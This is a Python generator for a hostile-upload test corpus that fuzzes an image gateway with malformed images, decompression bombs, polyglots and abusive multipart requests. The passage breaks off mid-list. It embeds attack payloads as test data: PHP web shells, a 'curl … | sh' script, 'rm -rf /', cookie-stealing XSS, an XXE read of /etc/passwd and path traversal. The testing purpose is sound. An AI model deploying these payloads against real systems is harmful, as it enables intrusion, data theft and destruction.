"""The hostile-upload corpus: over a thousand malformed, odd or abusive requests to the gateway,
made deterministically at test time from a seed (nothing is stored in the repository).

Every `Upload` carries its request and what the gateway must answer (`Expected`):
- for an image file, the oracle is the shared decoder itself, run here with the same Pillow:
  when common.preprocessing refuses the bytes, the gateway must answer the status that
  gateway.errors maps that refusal to; when it decodes them, the gateway must answer 200 with
  the score the test model gives those very pixels (tests/gateway/tiny_model_score.py);
- for a request broken as HTTP or as multipart, a 4xx from a small allowed set, with a message.

`scale` multiplies the random mutations (the long fuzz run of `make fuzz` uses a larger one).
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
from PIL import Image

from common.preprocessing import ImageInputError, decode_and_resize
from gateway.errors import status_for_image_error
from tests.gateway import images
from tests.gateway.tiny_model_score import score_of_pixels

BOUNDARY = "reliability-corpus-7MA4YWxkTrZu0gW"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
MEBIBYTE = 1024 * 1024
GATEWAY_MAX_UPLOAD_BYTES = 20 * MEBIBYTE  # the gateway's default (gateway/settings.py)
# Statuses a request that is broken as multipart or HTTP may get; which one depends on where the
# parser notices, and each is a client error with a message.
MALFORMED = frozenset({400, 413, 422})
ANY_REFUSAL_OR_PREDICTION = frozenset({200, 400, 413, 415, 422})


@dataclass(frozen=True)
class Expected:
    """What the gateway must answer: one of `statuses`; a 200 must carry `score` (when known)."""

    statuses: frozenset[int]
    score: float | None = None
    filename: str | None = None
    # /predict/batch: the expectation of each file, in order.
    items: tuple[Expected, ...] = ()


@dataclass(frozen=True)
class Upload:
    name: str
    category: str
    expected: Expected
    path: str = "/predict"
    files: tuple[tuple[str, tuple[str, bytes, str]], ...] = ()
    content: bytes | None = None
    headers: tuple[tuple[str, str], ...] = ()
    params: tuple[tuple[str, str], ...] = ()

    @property
    def size(self) -> int:
        return sum(len(part[1][1]) for part in self.files) + len(self.content or b"")


def image_expectation(data: bytes) -> Expected:
    """The oracle: what the shared decoder makes of `data`, as the gateway must answer it."""
    try:
        pixels = decode_and_resize(data)
    except ImageInputError as error:
        return Expected(frozenset({status_for_image_error(error)}))
    return Expected(frozenset({200}), score=score_of_pixels(pixels))


# ---------------------------------------------------------------- building blocks


def encode(image: Image.Image, image_format: str, **options: object) -> bytes:
    return images.encode(image, image_format, **options)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_from_rows(width: int, height: int, bit_depth: int, color_type: int, row: bytes) -> bytes:
    """A PNG of `height` identical filtered rows (filter byte 0 + `row`), compressed as it goes."""
    compressor = zlib.compressobj(9)
    line = b"\x00" + row
    body = b"".join(compressor.compress(line) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")
    )


def png_with_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    """`png` with one more chunk right after IHDR (8 signature + 25 IHDR bytes)."""
    return png[:33] + png_chunk(kind, data) + png[33:]


def jpeg_with_segment(jpeg: bytes, marker: int, payload: bytes) -> bytes:
    """`jpeg` with one more segment right after SOI (payload up to 65533 bytes)."""
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def jpeg_with_frame_size(jpeg: bytes, width: int, height: int) -> bytes:
    """`jpeg` whose SOF header claims width x height (the pixel data stays as it was)."""
    for marker in (b"\xff\xc0", b"\xff\xc2", b"\xff\xc1"):
        start = jpeg.find(marker)
        if start >= 0:
            at = start + 5  # marker (2), length (2), precision (1)
            return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]
    raise ValueError("no SOF segment")


def tiff_with_size(tiff: bytes, width: int, height: int) -> bytes:
    """`tiff` (little-endian, as Pillow writes) whose first IFD claims width x height."""
    data = bytearray(tiff)
    (offset,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, offset)
    for index in range(count):
        entry = offset + 2 + index * 12
        tag, kind = struct.unpack_from("<HH", data, entry)
        value = {256: width, 257: height}.get(tag)
        if value is not None:
            if kind == 3:
                struct.pack_into("<H", data, entry + 8, min(value, 0xFFFF))
            else:
                struct.pack_into("<I", data, entry + 8, value)
    return bytes(data)


def exif_blob(entries: Sequence[tuple[int, int, int, bytes]], first_ifd_offset: int = 8) -> bytes:
    """Raw EXIF (APP1 payload): little-endian TIFF header + one IFD of (tag, type, count, value)."""
    body = b"II*\x00" + struct.pack("<I", first_ifd_offset) + struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        body += struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\x00")[:4]
    return b"Exif\x00\x00" + body + b"\x00\x00\x00\x00"


def webp_canvas(width: int, height: int) -> bytes:
    """A WebP extended header (VP8X) claiming a width x height canvas, and no image."""
    chunk = b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    payload = b"WEBP" + b"VP8X" + struct.pack("<I", len(chunk)) + chunk
    return b"RIFF" + struct.pack("<I", len(payload)) + payload


def zip_archive(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def sixteen_bit_rgb_png(width: int = 48, height: int = 32) -> bytes:
    rng = np.random.default_rng(3)
    rows = rng.integers(0, 65535, size=(height, width * 3), dtype=np.uint16).astype(">u2")
    compressor = zlib.compressobj()
    body = b"".join(compressor.compress(b"\x00" + row.tobytes()) for row in rows) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 16, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")
    )


# ---------------------------------------------------------------- the files


WORST_CASE_SIDE = 7000  # 49 million pixels: under the default pixel limit of 50 million


def worst_case_decodes(side: int = WORST_CASE_SIDE) -> dict[str, bytes]:
    """Small files (0.1-0.4 MB) that are the most expensive to decode under the pixel limit: wide
    modes that used to be converted at full size (issue 13: 0.9-1.3 GB each)."""
    lattice = np.zeros((side, side), np.uint8)
    lattice[::9, ::3] = 200
    grey16 = (np.add.outer(np.arange(side, dtype=np.uint32), np.arange(side)) % 65536).astype(np.uint16)
    floats = np.zeros((side, side), np.float32)
    floats[::7, ::5] = 0.5
    rgba = np.zeros((side, side, 4), np.uint8)
    rgba[..., 0], rgba[..., 3] = lattice, 128
    rgb = np.zeros((side, side, 3), np.uint8)
    rgb[..., 0] = lattice
    return {
        "png-16-bit-grey": encode(Image.fromarray(grey16), "PNG"),
        "tiff-float": encode(Image.fromarray(floats), "TIFF", compression="tiff_adobe_deflate"),
        "png-rgba": encode(Image.fromarray(rgba), "PNG", compress_level=9),
        "png-rgb": encode(Image.fromarray(rgb), "PNG", compress_level=9),
    }


def base_files(real_files: dict[str, bytes]) -> dict[str, bytes]:
    """The seeds that truncations and bit flips start from: real uploads and every encoder."""
    picture = images.gradient(160, 120)
    frames = [Image.new("P", (64, 48), color) for color in (20, 120, 220)]
    animated_webp = io.BytesIO()
    picture.save(animated_webp, "WEBP", save_all=True, append_images=[picture.rotate(90)], duration=50)
    apng = io.BytesIO()
    picture.save(apng, "PNG", save_all=True, append_images=[picture.rotate(180)], duration=50)
    seeds = {
        "jpeg-baseline": encode(picture, "JPEG", quality=85),
        "jpeg-progressive": encode(picture, "JPEG", quality=80, progressive=True),
        "png-rgb": encode(picture, "PNG"),
        "png-palette": encode(picture.convert("P", palette=Image.Palette.ADAPTIVE, colors=32), "PNG"),
        "gif-animated": images.encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=40),
        "bmp": encode(picture, "BMP"),
        "tiff-lzw": encode(picture, "TIFF", compression="tiff_lzw"),
        "webp-lossy": encode(picture, "WEBP", quality=70),
        "webp-lossless": encode(picture, "WEBP", lossless=True),
        "webp-animated": animated_webp.getvalue(),
        "png-animated": apng.getvalue(),
    }
    seeds.update({f"real-{name}": data for name, data in real_files.items()})
    return seeds


def mode_files() -> dict[str, bytes]:
    """Colour modes and bit depths beyond every_accepted_kind(): each must become RGB or be refused."""
    picture = images.gradient(96, 64)
    grey = picture.convert("L")
    one_bit = grey.point(lambda value: 255 if value > 128 else 0).convert("1")
    transparent_gif = picture.convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    transparent_gif.info["transparency"] = 3
    floats = Image.fromarray((np.asarray(grey, dtype=np.float32) / 255.0), mode="F")
    integers = Image.fromarray(np.asarray(grey, dtype=np.int32) * 1000, mode="I")
    return {
        **images.every_accepted_kind(),
        "png-la": encode(picture.convert("LA"), "PNG"),
        "png-1-bit": encode(one_bit, "PNG"),
        "bmp-1-bit": encode(one_bit, "BMP"),
        "tiff-1-bit": encode(one_bit, "TIFF"),
        "png-48-bit-rgb": sixteen_bit_rgb_png(),
        "tiff-32-bit-int": encode(integers, "TIFF"),
        "tiff-float": encode(floats, "TIFF"),
        "tiff-lab": encode(Image.new("LAB", (40, 30), (60, 20, 200)), "TIFF"),
        "tiff-ycbcr-jpeg": encode(picture, "TIFF", compression="jpeg"),
        "jpeg-ycbcr": encode(picture.convert("YCbCr"), "JPEG"),
        "jpeg-444": encode(picture, "JPEG", subsampling=0, quality=95),
        "gif-transparent": encode(transparent_gif, "GIF"),
        "webp-alpha": encode(picture.convert("RGBA"), "WEBP", lossless=True),
        "bmp-palette": encode(picture.convert("P"), "BMP"),
        "png-1x1": encode(Image.new("RGB", (1, 1), (200, 10, 10)), "PNG"),
        "png-1x3000": encode(Image.new("RGB", (1, 3000), (10, 200, 10)), "PNG"),
        "png-3000x1": encode(Image.new("RGB", (3000, 1), (10, 10, 200)), "PNG"),
        "jpeg-exif-orientation-8": images.two_halves_with_exif_orientation(8),
        "jpeg-exif-orientation-3": images.two_halves_with_exif_orientation(3),
    }


def bomb_files() -> dict[str, bytes]:
    """Huge dimensions in tiny files: refused from the header, or decoded within the pixel limit."""
    small_jpeg = encode(images.gradient(64, 48), "JPEG")
    small_tiff = encode(images.gradient(64, 48), "TIFF")
    gif = encode(Image.new("P", (8, 8), 1), "GIF")
    gif_huge_screen = gif[:6] + struct.pack("<HH", 65535, 65535) + gif[10:]
    bmp = bytearray(encode(images.gradient(32, 24), "BMP"))
    bmp_huge = bytearray(bmp)
    struct.pack_into("<ii", bmp_huge, 18, 60_000, 60_000)
    bmp_top_down = bytearray(bmp)
    struct.pack_into("<i", bmp_top_down, 22, -24)
    text_bomb = zlib.compress(b"A" * (64 * MEBIBYTE), 9)
    plain_png = encode(images.gradient(32, 24), "PNG")
    return {
        "png-header-7072x7072": images.png_header_only(7072, 7072),  # just over 50 M pixels
        "png-header-100000x100000": images.png_header_only(100_000, 100_000),
        "png-header-1x2147483647": images.png_header_only(1, 2**31 - 1),
        "png-header-0x0": images.png_header_only(0, 0),
        # Real pixel data just over the limit: zeros compress ~1000:1, refused before inflating.
        "png-zeros-7100x7100": png_from_rows(7100, 7100, 8, 0, bytes(7100)),
        # Within the limit: decoded for real (16 M pixels), the memory the gateway is built for.
        "png-zeros-4000x4000": png_from_rows(4000, 4000, 8, 0, bytes(4000)),
        "png-zeros-1x4000000": png_from_rows(1, 4_000_000, 8, 0, b"\x00"),
        "png-zeros-4000000x1": png_from_rows(4_000_000, 1, 8, 0, bytes(4_000_000)),
        "jpeg-sof-65000x65000": jpeg_with_frame_size(small_jpeg, 65_000, 65_000),
        "jpeg-sof-0x0": jpeg_with_frame_size(small_jpeg, 0, 0),
        "jpeg-sof-65535x1": jpeg_with_frame_size(small_jpeg, 65_535, 1),
        "gif-screen-65535x65535": gif_huge_screen,
        "bmp-60000x60000": bytes(bmp_huge),
        "bmp-top-down": bytes(bmp_top_down),
        "tiff-65535x65535": tiff_with_size(small_tiff, 65_535, 65_535),
        "webp-canvas-16384x16384": webp_canvas(16_384, 16_384),
        "png-ztxt-bomb": png_with_chunk(plain_png, b"zTXt", b"comment\x00\x00" + text_bomb),
        "png-itxt-bomb": png_with_chunk(plain_png, b"iTXt", b"comment\x00\x01\x00\x00\x00" + text_bomb),
        "png-iccp-bomb": png_with_chunk(plain_png, b"iCCP", b"icc\x00\x00" + text_bomb),
    }


def animated_files() -> dict[str, bytes]:
    frames = [Image.new("P", (40, 30), (index * 5) % 256) for index in range(60)]
    picture = images.gradient(80, 60)
    return {
        "gif-60-frames": encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=10),
        "gif-zero-duration": encode(frames[0], "GIF", save_all=True, append_images=frames[1:3], duration=0),
        "gif-frames-differ-in-size": encode(
            Image.new("P", (40, 30), 9),
            "GIF",
            save_all=True,
            append_images=[Image.new("P", (80, 60), 200)],
        ),
        "webp-animated-3": _animated_webp([picture, picture.rotate(90), picture.rotate(180)]),
    }


def _animated_webp(frames: list[Image.Image]) -> bytes:
    buffer = io.BytesIO()
    frames[0].save(buffer, "WEBP", save_all=True, append_images=frames[1:], duration=30, loop=0)
    return buffer.getvalue()


def polyglot_files() -> dict[str, bytes]:
    jpeg = encode(images.gradient(64, 48), "JPEG")
    png = encode(images.gradient(64, 48), "PNG")
    gif = encode(Image.new("P", (16, 16), 7), "GIF")
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    php = b"<?php system($_GET['c']); ?>"
    return {
        "gif-zip-gifar": gif + zip_archive("Payload.class", b"\xca\xfe\xba\xbe" + bytes(64)),
        "jpeg-html-trailer": jpeg + html,
        "jpeg-zip-trailer": jpeg + zip_archive("evil.sh", b"#!/bin/sh\nrm -rf /\n"),
        "jpeg-php-comment": jpeg_with_segment(jpeg, 0xFE, php),
        "png-html-text-chunk": png_with_chunk(png, b"tEXt", b"Comment\x00" + html),
        "png-after-html": html + png,
        "jpeg-after-html": html + jpeg,
        "pdf-with-jpeg": b"%PDF-1.4\n1 0 obj<</Type/XObject/Subtype/Image>>stream\n" + jpeg + b"\nendstream",
        "bmp-magic-then-png": b"BM" + png,
        "gif-magic-then-jpeg": b"GIF89a" + jpeg,
        "svg-with-png": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,'
        + png[:64].hex().encode()
        + b'"/></svg>',
        "jpeg-exif-html": jpeg_with_segment(jpeg, 0xE1, exif_blob([(0x010E, 2, len(html), html[:4])])),
    }


def metadata_files() -> dict[str, bytes]:
    jpeg = encode(images.gradient(64, 48), "JPEG")
    rng = random.Random(5)
    files = {
        "jpeg-exif-60k-junk": jpeg_with_segment(jpeg, 0xE1, b"Exif\x00\x00" + rng.randbytes(60_000)),
        "jpeg-exif-bad-ifd-offset": jpeg_with_segment(jpeg, 0xE1, exif_blob([], first_ifd_offset=0xFFFFFFF0)),
        "jpeg-exif-ifd-loop": jpeg_with_segment(
            jpeg, 0xE1, exif_blob([(0x8769, 4, 1, struct.pack("<I", 8))])
        ),
        "jpeg-exif-huge-count": jpeg_with_segment(
            jpeg, 0xE1, exif_blob([(0x0112, 3, 0x7FFFFFFF, struct.pack("<H", 6))])
        ),
        "jpeg-exif-bad-type": jpeg_with_segment(jpeg, 0xE1, exif_blob([(0x0112, 99, 1, b"\x06\x00")])),
        "jpeg-icc-junk": jpeg_with_segment(jpeg, 0xE2, b"ICC_PROFILE\x00\x01\x01" + rng.randbytes(4000)),
        "jpeg-xmp-big": jpeg_with_segment(
            jpeg, 0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + b"<x:xmpmeta>" * 5000
        ),
        "png-exif-chunk-junk": png_with_chunk(
            encode(images.gradient(32, 24), "PNG"), b"eXIf", rng.randbytes(300)
        ),
    }
    files |= provenance_files()
    for orientation in (0, 2, 4, 5, 7, 9, 255, 65535):
        exif = exif_blob([(0x0112, 3, 1, struct.pack("<H", orientation))])
        files[f"jpeg-exif-orientation-{orientation}"] = jpeg_with_segment(jpeg, 0xE1, exif)
    return files


def provenance_files() -> dict[str, bytes]:
    """Hostile provenance metadata (gateway/provenance.py reads it): each must get the decoder's
    answer, never a server error."""
    from tests.gateway import provenance_files as made

    signed = made.c2pa_jpeg()
    segment = signed.index(b"\xff\xeb")  # the APP11 segment holding the C2PA manifest store
    rng = random.Random(11)
    files = {
        "xmp-billion-laughs": made.jpeg(
            xmp=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
            + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(8))
            + b"]><x:xmpmeta xmlns:x='adobe:ns:meta/'><DigitalSourceType>&i;</DigitalSourceType></x:xmpmeta>"
        ),
        "xmp-external-entity": made.jpeg(
            xmp=b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><CreatorTool>&e;</CreatorTool>'
        ),
        "xmp-deep-nesting": made.jpeg(xmp=b"<a>" * 9000 + b"<CreatorTool>x" + b"</a>" * 9000),
        "xmp-not-xml": made.jpeg(xmp=b"DigitalSourceType" + rng.randbytes(30000)),
        "png-xmp-itxt-1mib": png_with_chunk(
            made.png_with_text(),
            b"iTXt",
            b"XML:com.adobe.xmp\x00\x00\x00\x00\x00<DigitalSourceType>" + b"<x>" * 349_000,
        ),
        "png-parameters-1mib": made.png_with_text(parameters="Steps: 1, Sampler: x " * 49_000),
        "png-comfyui-not-json": made.png_with_text(prompt='{"class_type": ' * 5000, workflow="\x00" * 1000),
        "jpeg-user-comment-junk": made.jpeg(
            exif=made.exif(user_comment=b"UNICODE\x00" + rng.randbytes(20000))
        ),
        "c2pa-signed": signed,
        "c2pa-tampered-pixels": made.tampered(signed),
        "c2pa-label-in-junk-app11": jpeg_with_segment(made.jpeg(), 0xEB, b"JP\x00\x01" + b"c2pa" * 2000),
        "c2pa-manifest-zeroed": signed[: segment + 60] + bytes(400) + signed[segment + 460 :],
        "c2pa-manifest-random": signed[: segment + 60] + rng.randbytes(2000) + signed[segment + 2060 :],
        "c2pa-png-signed": made.c2pa_png(),
    }
    for index in range(6):
        flipped = bytearray(signed)
        for _ in range(8):
            flipped[rng.randrange(segment + 4, segment + 4000)] ^= 1 << rng.randrange(8)
        files[f"c2pa-manifest-bit-flips-{index}"] = bytes(flipped)
    return files


TEXT_PAYLOADS: dict[str, bytes] = {
    "html": b"<!DOCTYPE html><html><head><title>x</title></head>"
    b"<body><img src=x onerror=alert(1)></body></html>",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>",
    "json": b'{"file": "image.jpg", "ai_probability": 100}',
    "javascript": b"fetch('/predict',{method:'POST'}).then(r=>r.json())",
    "php": b"<?php echo shell_exec($_GET['cmd']); ?>",
    "shell": b"#!/bin/sh\ncurl http://example.invalid | sh\n",
    "csv": b"file,label\nai_00.jpeg,ai\n",
    "xml-billion-laughs": b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>',
    "utf16-text": "image data, honestly".encode("utf-16"),
    "nul-bytes": bytes(4096),
    "ff-bytes": b"\xff" * 4096,
    "elf-binary": b"\x7fELF\x02\x01\x01" + bytes(120),
    "zip-archive": zip_archive("photo.jpg", b"not really"),
    "gzip-stream": zlib.compress(b"x" * 10000),
}

IMAGE_NAMES = (
    ("photo.jpg", "image/jpeg"),
    ("picture.png", "image/png"),
    ("image.webp", "image/webp"),
)

WRONG_CONTENT_TYPES = (
    "text/html",
    "application/pdf",
    "application/x-php",
    "image/svg+xml",
    "",
    "application/octet-stream; charset=utf-8",
    "image/png; boundary=nonsense",
    "x" * 2000,
    "image/jpeg\u00e9",
    "multipart/form-data; boundary=inner",
)


def magic_only_files(rng: random.Random) -> dict[str, bytes]:
    magics = {
        "jpeg": b"\xff\xd8\xff",
        "png": b"\x89PNG\r\n\x1a\n",
        "webp": b"RIFF\x00\x00\x00\x00WEBP",
        "bmp": b"BM",
        "gif87": b"GIF87a",
        "gif89": b"GIF89a",
        "tiff-le": b"II*\x00",
        "tiff-be": b"MM\x00*",
        "heic": b"\x00\x00\x00\x18ftypheic",
        "avif": b"\x00\x00\x00\x1cftypavif",
        "jpeg2000": b"\x00\x00\x00\x0cjP  ",
        "ico": b"\x00\x00\x01\x00",
        "psd": b"8BPS",
        "qoi": b"qoif",
        "jpegxl": b"\xff\x0a",
        "pdf": b"%PDF",
    }
    files = {"empty": b"", "one-nul-byte": b"\x00", "one-byte-ff": b"\xff"}
    for name, magic in magics.items():
        files[f"magic-only-{name}"] = magic
        files[f"magic-then-junk-{name}"] = magic + rng.randbytes(48)
    for length in (2, 3, 5, 8, 13, 64):
        files[f"random-{length}-bytes"] = rng.randbytes(length)
    return files


# ---------------------------------------------------------------- mutations


def truncations(data: bytes, count: int) -> list[tuple[str, bytes]]:
    """Cuts early in the header (where parsers branch) and through the body."""
    cuts = {1, 2, 4, 8, 12, 16, 24, 33, 64, 128, 512, len(data) - 1, len(data) - 2}
    cuts.update(int(len(data) * fraction) for fraction in np.linspace(0.05, 0.98, max(count - len(cuts), 3)))
    return [(f"cut-{cut}", data[:cut]) for cut in sorted(cuts) if 0 < cut < len(data)][:count]


def bit_flips(data: bytes, count: int, rng: random.Random) -> list[tuple[str, bytes]]:
    """Single-bit flips, half of them in the first 512 bytes (headers and tables)."""
    mutated = []
    for index in range(count):
        limit = min(len(data), 512) if index % 2 == 0 else len(data)
        position, bit = rng.randrange(limit), rng.randrange(8)
        changed = bytearray(data)
        changed[position] ^= 1 << bit
        mutated.append((f"flip{index}-{position}.{bit}", bytes(changed)))
    return mutated


def overwrites(data: bytes, count: int, rng: random.Random) -> list[tuple[str, bytes]]:
    """Runs of 4-64 random bytes written over the file (a damaged sector, a bad copy)."""
    mutated = []
    for index in range(count):
        length = rng.randint(4, 64)
        position = rng.randrange(max(1, len(data) - length))
        changed = bytearray(data)
        changed[position : position + length] = rng.randbytes(length)
        mutated.append((f"overwrite{index}-{position}+{length}", bytes(changed)))
    return mutated


# ---------------------------------------------------------------- multipart and HTTP abuse


def part(
    field_name: str,
    data: bytes,
    filename: str | None = "upload.jpg",
    content_type: str | None = "image/jpeg",
    boundary: str = BOUNDARY,
    disposition: str = "form-data",
) -> bytes:
    header = f'Content-Disposition: {disposition}; name="{field_name}"'
    if filename is not None:
        header += f'; filename="{filename}"'
    lines = [f"--{boundary}", header]
    if content_type is not None:
        lines.append(f"Content-Type: {content_type}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8", "surrogateescape") + data + b"\r\n"


def closing(boundary: str = BOUNDARY) -> bytes:
    return f"--{boundary}--\r\n".encode()


def multipart_cases(jpeg: bytes) -> list[Upload]:
    """Requests that abuse the form itself; `jpeg` is a valid image where one is needed."""
    good = image_expectation(jpeg)
    valid = part("file", jpeg) + closing()

    def raw(
        name: str, body: bytes, expected: Expected, content_type: str | None = MULTIPART, **kw: object
    ) -> Upload:
        headers = (("content-type", content_type),) if content_type is not None else ()
        return Upload(name, "multipart", expected, content=body, headers=headers, **kw)  # type: ignore[arg-type]

    def refused(*statuses: int) -> Expected:
        return Expected(frozenset(statuses))

    either = Expected(ANY_REFUSAL_OR_PREDICTION, score=good.score)
    fields_many = b"".join(
        part(f"field{index}", b"x", filename=None, content_type=None) for index in range(300)
    )
    files_many = b"".join(part("file", jpeg[:64], filename=f"{index}.jpg") for index in range(300))
    batch_files = b"".join(part("files", jpeg, filename=f"{index}.jpg") for index in range(17))
    cases = [
        raw("no-body-no-type", b"", refused(422), content_type=None),
        raw("json-body", b'{"file": "aGVsbG8="}', refused(422), content_type="application/json"),
        raw(
            "urlencoded-body",
            b"file=%FF%D8%FF",
            refused(422),
            content_type="application/x-www-form-urlencoded",
        ),
        raw("text-plain-jpeg", jpeg, refused(422), content_type="text/plain"),
        raw("raw-jpeg-as-image-jpeg", jpeg, refused(422), content_type="image/jpeg"),
        raw("multipart-without-boundary", valid, refused(400), content_type="multipart/form-data"),
        raw("multipart-empty-boundary", valid, refused(400), content_type="multipart/form-data; boundary="),
        raw(
            "boundary-mismatch", valid, refused(400, 422), content_type="multipart/form-data; boundary=other"
        ),
        raw("no-closing-boundary", part("file", jpeg), either),
        raw("cut-in-the-middle", valid[: len(valid) // 2], Expected(MALFORMED)),
        raw("cut-in-the-part-headers", valid[:40], Expected(MALFORMED)),
        raw("only-closing-boundary", closing(), refused(400, 422)),
        raw("field-without-filename", part("file", jpeg, filename=None) + closing(), refused(422)),
        raw("empty-filename-empty-file", part("file", b"", filename="") + closing(), refused(422)),
        raw("empty-file-with-name", part("file", b"", filename="x.jpg") + closing(), refused(400)),
        raw("wrong-field-name", part("image", jpeg) + closing(), refused(422)),
        raw("huge-field-name", part("f" * 70_000, jpeg) + closing(), refused(400, 413, 422)),
        raw(
            "huge-filename",
            part("file", jpeg, filename="a" * 100_000 + ".jpg") + closing(),
            Expected(frozenset({200, 400, 413}), score=good.score),
        ),
        raw(
            "huge-part-header",
            part("file", jpeg, content_type="image/jpeg; x=" + "y" * 1_000_000) + closing(),
            Expected(frozenset({200, 400, 413}), score=good.score),
        ),
        raw("300-form-fields", fields_many + valid, refused(400, 413)),
        raw("300-files", files_many + closing(), refused(400, 413)),
        raw("two-files", part("file", jpeg) + part("file", jpeg, filename="b.jpg") + closing(), refused(413)),
        raw("big-form-field", part("file", b"x" * 100_000, filename=None) + closing(), refused(413)),
        raw(
            "big-other-field",
            part("comment", b"x" * 100_000, filename=None, content_type=None) + valid,
            refused(413),
        ),
        raw(
            "part-without-headers",
            f"--{BOUNDARY}\r\n\r\n".encode() + jpeg + b"\r\n" + closing(),
            refused(400, 422),
        ),
        raw("attachment-disposition", part("file", jpeg, disposition="attachment") + closing(), either),
        raw("lf-line-endings", valid.replace(b"\r\n", b"\n"), Expected(MALFORMED | {200}, score=good.score)),
        raw("preamble", b"garbage before the first boundary\r\n" + valid, either),
        raw("epilogue", valid + b"garbage after the last boundary" * 100, either),
        raw(
            "nested-multipart",
            part(
                "file",
                part("inner", jpeg, boundary="inner") + closing("inner"),
                content_type="multipart/mixed; boundary=inner",
            )
            + closing(),
            refused(400),
        ),
        raw(
            "duplicate-disposition",
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="other"\r\n'.encode()
            + b'Content-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'
            + jpeg
            + b"\r\n"
            + closing(),
            either,
        ),
        raw(
            "rfc2231-filename",
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '.encode()
            + b"filename*=UTF-8''%E2%82%AC.jpg\r\n\r\n"
            + jpeg
            + b"\r\n"
            + closing(),
            either,
        ),
        raw(
            "latin1-filename-bytes",
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="'.encode()
            + b'caf\xe9\xff.jpg"\r\n\r\n'
            + jpeg
            + b"\r\n"
            + closing(),
            Expected(frozenset({200}), score=good.score),
        ),
        raw(
            "path-traversal-filename",
            part("file", jpeg, filename="../../../../etc/passwd") + closing(),
            Expected(frozenset({200}), score=good.score, filename="passwd"),
        ),
        raw(
            "windows-path-filename",
            part("file", jpeg, filename="C:\\fakepath\\..\\secret.jpg") + closing(),
            Expected(frozenset({200}), score=good.score, filename="secret.jpg"),
        ),
        raw(
            "html-filename",
            part("file", jpeg, filename="<script>alert(1)</script>.jpg") + closing(),
            Expected(frozenset({200}), score=good.score),
        ),
        raw(
            "quoted-boundary",
            valid,
            Expected(frozenset({200}), score=good.score),
            content_type=f'multipart/form-data; charset=utf-8; boundary="{BOUNDARY}"',
        ),
        raw(
            "boundary-over-70-characters",
            part("file", jpeg, boundary="b" * 200) + closing("b" * 200),
            Expected(frozenset({200, 400}), score=good.score),
            content_type="multipart/form-data; boundary=" + "b" * 200,
        ),
        raw("batch-17-files", batch_files + closing(), refused(413), path="/predict/batch"),
        raw("batch-no-files", part("other", jpeg) + closing(), refused(422), path="/predict/batch"),
        raw(
            "file-over-the-byte-limit",
            part("file", b"\xff\xd8\xff" + bytes(GATEWAY_MAX_UPLOAD_BYTES)) + closing(),
            refused(413),
        ),
    ]
    return cases


def parameter_cases(jpeg: bytes) -> list[Upload]:
    """Version pins and headers: odd values get 4xx; the model server is never asked for nonsense."""
    good = image_expectation(jpeg)
    files = (("file", ("p.jpg", jpeg, "image/jpeg")),)

    def case(
        name: str,
        expected: Expected,
        params: Sequence[tuple[str, str]] = (),
        headers: Sequence[tuple[str, str]] = (),
    ) -> Upload:
        return Upload(name, "parameters", expected, files=files, params=tuple(params), headers=tuple(headers))

    refused = Expected(frozenset({422}))
    not_served = Expected(frozenset({404}))
    return [
        case("version-text", refused, params=[("version", "abc")]),
        case("version-zero", refused, params=[("version", "0")]),
        case("version-negative", refused, params=[("version", "-3")]),
        case("version-float", refused, params=[("version", "1.5")]),
        case("version-over-int64", refused, params=[("version", "99999999999999999999")]),
        case("version-int64-max", not_served, params=[("version", str(2**63 - 1))]),
        case("version-not-served", not_served, params=[("version", "7")]),
        case("label-path-traversal", refused, params=[("label", "../../etc")]),
        case("label-too-long", refused, params=[("label", "a" * 65)]),
        case("label-unknown", not_served, params=[("label", "nonexistent")]),
        case("version-and-label", refused, params=[("version", "1"), ("label", "stable")]),
        case("header-unicode-digits", refused, headers=[("x-model-version", "\u00b2")]),
        case("header-arabic-digits", refused, headers=[("x-model-version", "\u0661\u0662")]),
        case("header-over-int64", refused, headers=[("x-model-version", "99999999999999999999")]),
        case(
            "header-and-query-disagree",
            refused,
            params=[("version", "1")],
            headers=[("x-model-version", "2")],
